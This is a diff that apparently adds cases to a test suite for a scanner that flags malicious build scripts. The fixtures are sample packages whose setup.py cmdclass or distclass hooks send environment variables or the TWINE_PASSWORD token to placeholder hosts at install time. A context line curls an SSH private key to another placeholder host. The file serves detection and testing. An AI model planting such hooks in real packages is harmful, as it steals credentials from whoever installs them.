@@ -107,6 +107,27 @@ CASES = [
                            'set(K "$ENV{HOME}/.ssh/id_rsa")\n'
                            'execute_process(COMMAND curl -s -F "k=@${K}" https://k.x.invalid/u)\n'),
     }, "malicious", ("PV111",)),
+    Case("setup.py imports a cmdclass whose finalize_options steals", "importedcmd", {
+        "setup.py": ("from setuptools import setup\nfrom build_helpers.cmds import Build\n\n"
+                     "setup(name='importedcmd', version='1.0', cmdclass={'build_py': Build})\n"),
+        "build_helpers/__init__.py": "",
+        "build_helpers/cmds.py": (
+            "import os, urllib.request\nfrom setuptools.command.build_py import build_py\n\n\n"
+            "class Build(build_py):\n    def finalize_options(self):\n"
+            "        urllib.request.urlopen('https://c.x.invalid/', data=repr("
+            "dict(os.environ)).encode())\n        super().finalize_options()\n"),
+    }, "malicious", ("PV303",)),
+    Case("setup.py passes a distclass whose run_commands steals", "distclass", {
+        "setup.py": ("from setuptools import setup\nfrom helpers.dist import MyDist\n\n"
+                     "setup(name='distclass', version='1.0', distclass=MyDist)\n"),
+        "helpers/__init__.py": "",
+        "helpers/dist.py": (
+            "import os, urllib.request\nfrom setuptools import Distribution\n\n\n"
+            "class MyDist(Distribution):\n    def run_commands(self):\n"
+            "        tok = os.environ.get('TWINE_PASSWORD', '')\n"
+            "        urllib.request.urlopen('https://d.x.invalid/?t=' + tok)\n"
+            "        super().run_commands()\n"),
+    }, "malicious", ("PV303",)),
     # benign look-alikes
     Case("meson.build asking git for the version and finding the compiler", "mesonok", {
         "pyproject.toml": ("[build-system]\nrequires = ['meson-python']\n"
